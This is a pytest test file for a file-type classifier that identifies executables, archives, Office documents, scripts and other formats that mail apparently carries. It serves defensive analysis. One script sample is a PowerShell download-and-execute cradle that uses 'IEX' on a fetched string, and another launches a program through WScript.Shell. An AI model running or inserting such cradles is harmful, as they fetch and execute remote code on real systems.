import bz2
import gzip
import io
import lzma
import os
import sys
import tarfile
import zipfile

import pytest

from workers import _types
from workers.filetype import filetype


def kind(findings):
    assert findings.classification is not None
    return findings.classification.type, findings.classification.super_type


def make_zip(*names: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, "content of " + name)
    return buffer.getvalue()


@pytest.mark.skipif(sys.platform != "linux", reason="the interpreter is an ELF on Linux only")
def test_the_interpreter_is_an_elf_for_this_machine(analyse, python):
    """An ELF is classified with the processor it was built for."""
    found = analyse(filetype, python).classification
    assert (found.type, found.super_type, found.platform) == ("elf", "executable", "linux")
    assert found.arch == {"x86_64": "x86_64", "aarch64": "arm64"}.get(os.uname().machine, found.arch)


def test_windows_launchers_are_pe_of_each_processor(analyse, launchers):
    """PEs for three processors are told apart, and their platform is Windows."""
    found = {name: analyse(filetype, data).classification for name, data in launchers.items()}
    assert {(each.type, each.super_type, each.platform) for each in found.values()} == {
        ("pe", "executable", "windows")
    }
    assert {each.arch for each in found.values()} == {"x86", "x86_64", "arm64"}


@pytest.mark.parametrize(
    ("content", "type_"),
    [
        (gzip.compress(b"x" * 500, mtime=0), "gzip"),
        (bz2.compress(b"x" * 500), "bzip2"),
        (lzma.compress(b"x" * 500), "xz"),
        (make_zip("readme.txt"), "zip"),
        (make_zip("META-INF/MANIFEST.MF", "A.class"), "jar"),
        (make_zip("AndroidManifest.xml", "META-INF/MANIFEST.MF", "classes.dex"), "apk"),
        (make_zip("Payload/A.app/Info.plist"), "ipa"),
    ],
)
def test_archives(analyse, content, type_):
    """Archives are told apart, containers by their members and not by the signature of ZIP alone."""
    assert kind(analyse(filetype, content)) == (type_, "archive")


@pytest.mark.parametrize(
    ("members", "type_"),
    [
        (["word/document.xml"], "docx"),
        (["xl/workbook.xml"], "xlsx"),
        (["xl/workbook.bin"], "xlsb"),
        (["ppt/presentation.xml"], "pptx"),
    ],
)
def test_office_documents_by_their_parts(analyse, members, type_):
    """An OOXML container is the document that its parts make it."""
    content = make_zip("[Content_Types].xml", "_rels/.rels", *members)
    assert kind(analyse(filetype, content)) == (type_, "document")


def test_a_wheel_is_an_archive(analyse, wheel):
    """A real wheel is a ZIP."""
    assert kind(analyse(filetype, wheel)) == ("zip", "archive")


def test_tar(analyse, tmp_path):
    """A tar made by the standard library is an archive."""
    (tmp_path / "a").write_text("x")
    with tarfile.open(tmp_path / "a.tar", "w") as archive:
        archive.add(tmp_path / "a", "a")
    assert kind(analyse(filetype, tmp_path / "a.tar")) == ("tar", "archive")


@pytest.mark.parametrize(
    ("head", "type_"), [(b"\0" * 700 + b"%PDF-1.7\n", "pdf"), (b"\r\n {\\rt\\x1 hello}", "rtf")]
)
def test_headers_that_readers_accept_and_signatures_miss(analyse, head, type_):
    """A PDF with junk in front and an RTF with a cut version are what a reader would take them for."""
    assert kind(analyse(filetype, head + b"some content, some more " * 20)) == (type_, "document")


@pytest.mark.parametrize(
    ("text", "name", "type_"),
    [
        ("$a = New-Object Net.WebClient; IEX $a.DownloadString('http://x')\n", "x", "powershell"),
        ("var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n" * 3, "x", "javascript"),
        ("#!/bin/sh\nset -e\nfor f in *; do echo $f; done\n", "x", "shell"),
        ("hello\n", "x.bat", "batch"),
        ("hello\n", "x.txt", "txt"),
    ],
)
def test_scripts_by_content_and_only_then_by_name(analyse, text, name, type_):
    """The content decides what a text is; the name does only where the content says nothing."""
    assert analyse(filetype, text.encode(), name).classification.type == type_


@pytest.mark.parametrize(
    ("content", "type_"),
    [
        (b"<html><HTA:APPLICATION ID='x'><script language='VBScript'>x = 1</script></html>", "hta"),
        (b"<?xml version='1.0'?><job id='a'><script language='JScript'>var s = 1;</script></job>", "wsf"),
        (b"<scriptlet><registration progid='x'/><script language='JScript'>x()</script></scriptlet>", "wsf"),
        (b"#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@", "vbe"),
        (bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(2000), "one"),
        (b"vhdxfile" + bytes(70_000), "vhd"),
        (bytes(5000) + b"conectix" + bytes(504), "vhd"),
    ],
)  # fmt: skip
def test_what_mail_carries_besides_documents(analyse, content, type_):
    """Web pages and XML that Windows runs, encoded scripts, notes and disks are told by their content."""
    assert analyse(filetype, content, "x").classification.type == type_


def test_a_name_cannot_hide_a_program(analyse, launchers):
    """A PE called invoice.pdf is a PE."""
    assert analyse(filetype, next(iter(launchers.values())), "invoice.pdf").classification.type == "pe"


def test_empty_and_one_byte(analyse):
    """The smallest files have a classification too."""
    assert kind(analyse(filetype, b"")) == ("empty", "empty")
    assert kind(analyse(filetype, b"\x90"))[1] in {"unknown", "text"}


def test_broken_containers_do_not_break_it(analyse, wheel, launchers):
    """A cut ZIP is a ZIP still, a cut PE is an executable still."""
    assert kind(analyse(filetype, wheel.read_bytes()[:5000])) == ("zip", "archive")
    cut = max(launchers.values(), key=len)[:0x40]
    assert kind(analyse(filetype, cut))[1] == "executable"


def test_every_name_leads_into_the_vocabulary():
    """What libmagic and file extensions are translated to is in the table of types, or a kind of image."""
    images = {"png", "jpeg", "gif", "tiff", "webp", "bmp", "ico"}
    targets = {*_types.MIME_TYPES.values(), *_types.TEXT_MIME_TYPES.values(), *_types.EXTENSIONS.values()}
    assert targets - set(_types.SUPER_TYPES) - images == set()
    assert set(_types.PLATFORMS) - set(_types.SUPER_TYPES) == set()


def test_says_what_both_libraries_said(analyse, wheel):
    """The result keeps both opinions, so that a disagreement can be seen."""
    result = analyse(filetype, wheel).result
    assert result.magika.label == "zip"
    assert result.libmagic.mime_type == "application/zip"
    assert 0 < result.magika.score <= 1


def test_eicar_is_a_program(analyse, eicar):
    """The test file is the DOS program that it is, and no script."""
    assert kind(analyse(filetype, eicar)) == ("com", "executable")
